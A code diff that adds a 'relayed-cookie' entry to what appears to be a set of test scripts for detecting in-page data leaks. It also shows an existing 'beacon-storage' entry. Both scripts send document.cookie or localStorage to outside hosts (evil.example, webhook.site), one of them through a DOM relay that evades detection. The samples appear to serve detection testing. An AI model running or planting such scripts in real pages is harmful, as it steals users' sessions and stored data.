@@ -251,6 +251,17 @@ export const MAIN_WORLD_SCRIPTS = {
   document.body.appendChild(encoded);
 })();`,
 
+  /**
+   * Reads the cookie in one script and sends it from another: the helper leaves it in the DOM and inserts an
+   * inline script that sends whatever it finds there — code that itself read no cookie.
+   */
+  'relayed-cookie': `(() => {
+  document.documentElement.dataset.k = encodeURIComponent(document.cookie);
+  const sender = document.createElement('script');
+  sender.textContent = "fetch('https://evil.example/relay?c=' + document.documentElement.dataset.k, { mode: 'no-cors' }).catch(() => {});";
+  document.head.appendChild(sender);
+})();`,
+
   /** Leaks storage by sendBeacon to a webhook site. */
   'beacon-storage': `navigator.sendBeacon('https://webhook.site/5c1a-test', JSON.stringify({ ...localStorage, cookie: document.cookie }));`,
 
